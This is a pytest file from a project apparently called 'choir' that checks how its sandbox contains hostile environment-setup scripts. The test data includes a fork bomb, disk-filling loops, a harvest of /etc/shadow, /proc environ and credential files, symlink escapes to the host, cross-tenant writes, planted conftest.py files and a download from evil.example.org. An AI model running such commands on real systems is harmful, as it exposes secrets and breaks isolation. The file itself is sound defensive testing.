"""Set-ups that mean harm: each is contained, and ends with a reason."""

from __future__ import annotations

import http.server
import os
import stat
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from choir.bazaar.contracts import Environment
from choir.bazaar.environments import mirrors
from choir.bazaar.environments.model import (
    HostNotOffered,
    SetupFailed,
    SetupHostRefused,
    SetupTimedOut,
    SetupTooLarge,
)
from choir.bazaar.environments.service import Environments
from choir.bazaar.policy import EnvironmentsPolicy
from choir.foundation.errors import Invalid
from choir.sandbox.model import Spec
from choir.sandbox.service import Sandboxes
from tests.bazaar.environments.conftest import PYPI, SMALL, at, need
from tests.bazaar.environments.test_setups import OTHER, made, run
from tests.sandbox.conftest import needs_groups


def refused(environments: Environments, tree: Path, wanted: Environment, kind: type[Invalid]) -> str:
    """The sentence of the one refusal that must come; no layer is left, and nothing half-made."""
    before = {item.name for item in environments.all()}
    with pytest.raises(kind) as error, environments.use(wanted, tree):
        pass
    assert {item.name for item in environments.all()} == before
    assert list((environments.home / "building").iterdir()) == []
    return str(error.value)


def test_writing_without_end_is_stopped(small: Environments, tmp_path: Path) -> None:
    tree = made(tmp_path / "tree")
    endless = "while :; do head -c 4000000 /dev/zero >> /opt/env/more || exit 1; done"
    assert "limit" in refused(small, tree, Environment(OTHER + endless), SetupTooLarge)
    large = "head -c 45000000 /dev/zero > /opt/env/large"
    assert "too large" in refused(small, tree, Environment(OTHER + large), SetupTooLarge)
    sparse = "truncate -s 60000000 /opt/env/sparse"
    assert "too large" in refused(small, tree, Environment(OTHER + sparse), SetupTooLarge)
    many = "cd /opt/env && seq 1 5000 | xargs touch"
    assert "number of files" in refused(small, tree, Environment(OTHER + many), SetupTooLarge)


def test_deep_folders_are_refused_and_cleared(small: Environments, tmp_path: Path) -> None:
    deep = "cd /opt/env; for i in $(seq 1 300); do mkdir d; cd d; done"
    assert "nesting" in refused(small, made(tmp_path / "tree"), Environment(OTHER + deep), SetupTooLarge)


def test_a_set_up_that_never_ends_is_stopped(sandboxes: Sandboxes, tmp_path: Path) -> None:
    quick = at(sandboxes, tmp_path / "quick", EnvironmentsPolicy(setup_wall_s=2, layer_bytes_max=10_000_000))
    assert "2 seconds" in refused(quick, made(tmp_path / "tree"), Environment(OTHER + "sleep 100"), SetupTimedOut)


def test_output_without_end_is_stopped(small: Environments, tmp_path: Path) -> None:
    text = refused(small, made(tmp_path / "tree"), Environment(OTHER + "yes"), SetupTooLarge)
    assert "output" in text


@needs_groups
def test_a_fork_bomb_hurts_only_itself(small: Environments, sandboxes: Sandboxes, tmp_path: Path) -> None:
    bomb = "f() { f | f & wait; }; f; exit 1"
    with (
        pytest.raises((SetupFailed, SetupTimedOut, SetupTooLarge)),
        small.use(Environment(OTHER + f"(sleep 3; kill -9 -1) & {bomb}"), made(tmp_path / "tree")),
    ):
        pass
    assert sandboxes.ls() == []


def test_a_daemon_that_stays_behind_is_gone(small: Environments, sandboxes: Sandboxes, tmp_path: Path) -> None:
    with small.use(Environment(OTHER + "setsid sleep 1000 & echo x > /opt/env/x"), made(tmp_path / "tree")):
        assert sandboxes.ls() == []


def test_nothing_can_be_written_outside(small: Environments, tmp_path: Path) -> None:
    setup = (
        "for p in /usr/bin/evil /etc/evil /evil /opt/evil /opt/choir/evil /proc/sys/kernel/hostname; do"
        " { echo evil > $p; } 2>/dev/null && exit 9; done; echo contained > /opt/env/said"
    )
    with small.use(Environment(OTHER + setup), made(tmp_path / "tree")) as layer:
        assert layer.kept is not None
        assert (layer.kept.room / "said").read_text() == "contained\n"


def test_secrets_are_not_there_to_be_found(
    small: Environments, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not the node's environment, not files of the host, not a word of the operator's credentials."""
    secret = "operator-secret-4711"
    monkeypatch.setenv("CHOIR_TOKEN", secret)
    (small.home.parent / "node.key").write_text(secret)
    (small.home.parent / mirrors.FILE).write_text(
        f'[[mirror]]\ninstead_of = ["pypi.org"]\nhosts = ["127.0.0.1"]\nprivate = true\n'
        f'credential = "Authorization: Basic {secret}"\n'
    )
    setup = (
        "{ env; cat /proc/*/environ /proc/*/cmdline; cat /etc/passwd /etc/shadow /root/.netrc ~/.pip/pip.conf;"
        f" cat {small.home.parent}/node.key {small.home.parent}/{mirrors.FILE}; ls /home /root /var;"
        " find / -xdev -name 'node.key' -o -name mirrors.toml; } > /opt/env/found 2>/dev/null; true"
    )
    with small.use(Environment(OTHER + setup, (), ("pypi.org",)), made(tmp_path / "tree")) as layer:
        assert layer.kept is not None
        found = (layer.kept.room / "found").read_bytes()
        assert secret.encode() not in found
        assert b"CHOIR_TOKEN" not in found
        assert str(small.home).encode() not in found.replace(str(small.home.parent).encode() + b"/node.key", b"")
        assert secret not in (layer.kept.folder / "layer.json").read_text()


def test_odd_things_are_left_out_or_made_plain(small: Environments, tmp_path: Path) -> None:
    setup = (
        "cd /opt/env; mkfifo pipe; echo x > suid; chmod 6755 suid; mkdir open; chmod 0777 open; echo s > shut;"
        " chmod 000 shut; ln -s /etc/shadow outside; ln shut hard;"
        " python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")' || true"
    )
    with small.use(Environment(OTHER + setup), made(tmp_path / "tree")) as layer:
        assert layer.kept is not None
        room = layer.kept.room
        assert not os.path.lexists(room / "pipe")
        assert not os.path.lexists(room / "sock")
        assert stat.S_IMODE((room / "suid").stat().st_mode) == 0o755
        assert stat.S_IMODE((room / "open").stat().st_mode) == 0o755
        assert (room / "shut").read_text() == (room / "hard").read_text() == "s\n"
        assert (room / "hard").stat().st_nlink == 1
        assert (room / "outside").is_symlink()
        assert any("pipe" in item for item in layer.kept.facts["left_out"])


def test_links_lead_nowhere_on_the_host(small: Environments, sandboxes: Sandboxes, tmp_path: Path) -> None:
    """A link over a place that is mounted, a link that leads out, a tree that is itself a link."""
    host = tmp_path / "host"
    host.mkdir()
    (host / "secret").write_text("secret\n")
    tree = made(tmp_path / "tree", packages__a="x\n")
    setup = (
        f"ln -s {host} node_modules; rm -rf ~ /opt/env/venv; ln -s {host} /opt/env/venv; ln -s {host} /opt/env/home;"
        f" ln -s /opt/choir packages/tools; ln -s ../../../../../..{host}/secret packages/up"
    )
    with small.use(Environment(OTHER + setup), tree) as layer:
        assert layer.python_path == ()
        seen = run(sandboxes, layer, tree, "cat node_modules/secret packages/up /opt/env/venv/secret ~/secret; ls ~")
        assert b"secret\n" not in seen.stdout
    gone = f"cd /; rm -rf /work/tree; ln -s {host} /work/tree; true"
    assert "cannot be read" in refused(small, tree, Environment(OTHER + gone), SetupTooLarge)
    assert sorted(path.name for path in host.iterdir()) == ["secret"]


def test_a_file_of_the_tree_cannot_be_replaced_by_the_layer(
    small: Environments, sandboxes: Sandboxes, tmp_path: Path
) -> None:
    tree = made(tmp_path / "tree", tests__t="buyer\n", conf="buyer\n")
    setup = "echo layer > tests/t; echo layer > conf; rm -rf tests; mkdir tests; echo layer > tests/t"
    with small.use(Environment(OTHER + setup), tree) as layer:
        assert run(sandboxes, layer, tree, "cat tests/t conf").stdout == b"buyer\nbuyer\n"


def test_what_decides_how_tests_run_does_not_come_from_a_layer(
    small: Environments, sandboxes: Sandboxes, tmp_path: Path
) -> None:
    tree = made(tmp_path / "tree", tests__t="buyer\n", src__a="x\n")
    names = (
        "conftest.py pytest.ini sitecustomize.py pytest.py x.pth json.py package.json jest.config.js tests/conftest.py"
    )
    names += " tests/new.py src/_pytest.py evil.egg-info fine.py src/fine.py"
    setup = f"touch {names}; mkdir pluggy deps; touch pluggy/__init__.py deps/conftest.py"
    with small.use(Environment(OTHER + setup), tree) as layer:
        seen = run(sandboxes, layer, tree, "find . -type f | sort").stdout.decode().split()
        assert seen == ["./deps/conftest.py", "./fine.py", "./src/a", "./src/fine.py", "./tests/t"]


def test_another_buyers_layer_is_out_of_reach(small: Environments, sandboxes: Sandboxes, tmp_path: Path) -> None:
    tree = made(tmp_path / "tree", lock="victim\n")
    wanted = Environment(OTHER + "echo good > /opt/env/x", ("lock",))
    with small.use(wanted, tree) as victim:
        assert victim.kept is not None
        hostile = (
            f"ls -laR {small.home} > /opt/env/found 2>&1; echo evil > {victim.kept.room}/x;"
            f" d=/opt/env/layers/{victim.name[7:]}/env; mkdir -p $d; echo evil > $d/x; true"
        )
        with small.use(Environment(OTHER + hostile), tree) as other:
            assert other.name != victim.name
            attack = f"echo evil > {victim.kept.room}/x; echo evil > /opt/env/x; chmod -R 777 /opt/env; true"
            run(sandboxes, other, tree, attack)
            run(sandboxes, victim, tree, attack)
        assert (victim.kept.room / "x").read_text() == "good\n"
        assert run(sandboxes, victim, tree, "cat /opt/env/x").stdout == b"good\n"


def test_a_lock_file_that_names_another_host_is_refused_with_the_host(small: Environments, tmp_path: Path) -> None:
    need(*PYPI)
    tree = made(tmp_path / "tree", lock="x\n")
    (tree / "requirements.txt").write_text("https://evil.example.org/evil-1.0.tar.gz\n")
    wanted = Environment("pip install --retries 0 -r requirements.txt", ("requirements.txt",), PYPI)
    assert "evil.example.org" in refused(small, tree, wanted, SetupHostRefused)


def test_without_hosts_there_is_no_network_at_all(small: Environments, tmp_path: Path) -> None:
    look = "python3 -c 'import socket; socket.create_connection((\"1.1.1.1\", 80), 2)'"
    assert "unreachable" in refused(small, made(tmp_path / "tree"), Environment(OTHER + look), SetupFailed)


@contextmanager
def endless_server() -> Iterator[int]:
    """A host of this machine that sends without end."""

    class Endless(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            try:
                for _ in range(10_000):
                    self.wfile.write(b"x" * 100_000)
            except OSError:
                return

        def log_message(self, *_: object) -> None: ...

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Endless) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield server.server_address[1]
        finally:
            server.shutdown()


def test_downloading_without_end_is_cut(sandboxes: Sandboxes, tmp_path: Path) -> None:
    """All answers together are counted, so that many small ones are no way round."""
    from choir.sandbox.egress.model import Egress, EgressRule

    with endless_server() as port:
        way = Egress((EgressRule("127.0.0.1", (port,), private=True),), total_bytes_max=5_000_000)
        fetch = (
            "import urllib.request as u\n"
            f"for _ in range(3): u.urlopen('http://127.0.0.1:{port}/').read(2_000_000)\n"
            f"u.urlopen('http://127.0.0.1:{port}/').read()\n"
        )
        result = sandboxes.run(Spec(argv=("python3", "-c", fetch), egress=way))
    assert any(record.outcome == "cut" and "too large" in record.why for record in result.requests)
    assert sum(record.received_bytes for record in result.requests) < 6_000_000


def test_the_operator_can_narrow_what_orders_reach(sandboxes: Sandboxes, tmp_path: Path) -> None:
    narrow = at(sandboxes, tmp_path / "narrow", SMALL)
    (tmp_path / "narrow" / mirrors.FILE).write_text('only = ["pypi.org", "*.example.org"]\n')
    tree = made(tmp_path / "tree")
    refused(narrow, tree, Environment("true", (), ("crates.io",)), HostNotOffered)
    with narrow.use(Environment(OTHER + "true", (), ("a.example.org", "pypi.org")), tree) as layer:
        assert layer.name


def test_a_private_address_is_refused_even_if_the_order_names_the_host(small: Environments, tmp_path: Path) -> None:
    (small.home.parent / mirrors.FILE).unlink()
    look = "python3 -c 'import urllib.request as u; u.urlopen(\"https://localhost.localdomain/\", timeout=5)'"
    wanted = Environment(OTHER + look, (), ("localhost.localdomain",))
    with pytest.raises((SetupHostRefused, SetupFailed)), small.use(wanted, made(tmp_path / "tree")):
        pass
